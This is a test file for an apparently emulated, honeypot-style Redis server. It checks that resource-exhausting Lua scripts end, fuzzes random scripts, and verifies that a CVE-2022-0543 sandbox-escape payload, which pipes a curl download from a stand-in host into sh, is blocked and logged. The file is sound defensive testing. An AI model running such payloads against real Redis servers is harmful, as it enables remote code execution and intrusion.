import assert from 'node:assert/strict'
import { test } from 'node:test'
import { numbers } from '#codec/testing.ts'
import { listeningRecorder, testContext } from '#services/testing/play.ts'
import { execute } from '../execute.ts'
import redis from '../index.ts'
import { newClient, newServer, type Redis } from '../state.ts'
import { TooMuch } from '../wire.ts'

function server(): { say(...words: string[]): Promise<string>; events: { name: string; details: unknown }[] } {
  const { record, events } = listeningRecorder()
  const cx = testContext(redis, record)
  const state = newServer(cx)
  const one: Redis = { cx, server: state, client: newClient(state, cx.now(), false) }
  return { say: async (...words) => (await execute(words, one)) ?? 'closed', events }
}

test('scripts that would take everything end soon', async () => {
  const { say } = server()
  for (const script of [
    'while true do end',
    'local s = "x" while true do s = s .. s end',
    'local t = {} while true do t[#t + 1] = t end',
    'local function f() return f() + 1 end return f()',
    'local function f() return pcall(f) end while true do f() end',
    'return ("x"):rep(1e12)',
    'return string.format("%99999d", 1)',
    'return string.find(("a"):rep(5000), ("a-"):rep(500) .. "b")',
    'return unpack({}, 1, 1e9)',
    'for i = 1, 1e12 do redis.call("set", "k", i) end',
    'local t = {} for i = 1, 1e5 do t[i] = i end table.sort(t, function() return true end) return #t',
    'return cjson.decode(("["):rep(5000))',
    'local t = {} t[1] = t return t',
    'local t = {} t.t = t return cjson.encode(t)',
    'local t = setmetatable({}, {}) getmetatable(t).__index = t return t.x',
    `return ${'('.repeat(500)}1${')'.repeat(500)}`,
    `return ${'{'.repeat(500)}${'}'.repeat(500)}`,
    `local x = ${'not '.repeat(2000)}1`,
    `return ${'1 ..'.repeat(2000)} 1`,
    'return tostring(setmetatable({}, {__tostring = function(s) return tostring(s) end}))',
  ]) {
    const answer = await say('EVAL', script, '0')
    assert.match(answer, /^[-:$*]/, script.slice(0, 80))
  }
})

test('a way out of the sandbox is told, with what it would have run', async () => {
  const { say, events } = server()
  const script =
    'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("curl -s http://198.51.100.9/r.sh | sh", "r"); return f:read("*a")'
  assert.match(await say('EVAL', script, '0'), /nonexistent global variable 'package'/)
  const found = (name: string) =>
    events.filter(event => event.name === name).map(({ details }) => details as Record<string, unknown>)
  assert.equal(found('exploit')[0]?.id, 'CVE-2022-0543')
  assert.equal(found('fileDownload')[0]?.url, 'http://198.51.100.9/r.sh')
  assert.equal(found('command')[0]?.line, 'curl -s http://198.51.100.9/r.sh | sh')
})

const words =
  `local function end if then else elseif while do for in repeat until return break and or not nil true false = == ~= < > <= >= + - * / % ^ # .. ...
  ( ) { } [ ] ; : , . x y t f i 1 2 0.5 1e300 -1 'a' "b" [[c]] KEYS ARGV redis.call redis.pcall 'set' 'get' 'k' 'hgetall' string.rep string.gsub string.find string.format
  table.concat table.insert table.sort pairs(t) ipairs(t) pcall error unpack select type tostring tonumber cjson.encode cjson.decode setmetatable '%d+' '(' ')' '%b()' loadstring 'return~1' math.random --[[ ]] -- __proto__ constructor`
    .split(/\s+/)
    .map(word => word.replace('~', ' '))

test('fifty thousand random scripts: one answer each', { timeout: 300_000 }, async () => {
  const pick = numbers(20_261_122)
  let one = server()
  for (let n = 0; n < 50_000; n++) {
    if (n % 5000 === 0) one = server()
    const body = Array.from({ length: 1 + pick(14) }, () => words[pick(words.length)]!).join(' ')
    const script =
      pick(3) === 0
        ? body
        : `local x, y, t, f, i = 1, 'y', {3, 1, k = 2}, function(...) return ... end, 2 return ${body}`
    try {
      assert.match(await one.say('EVAL', script, '1', 'key', 'arg'), /^[-+:$*][\s\S]*\r\n$/, script)
    } catch (error) {
      assert.ok(error instanceof TooMuch, `${script}: ${(error as Error).stack}`)
    }
  }
})
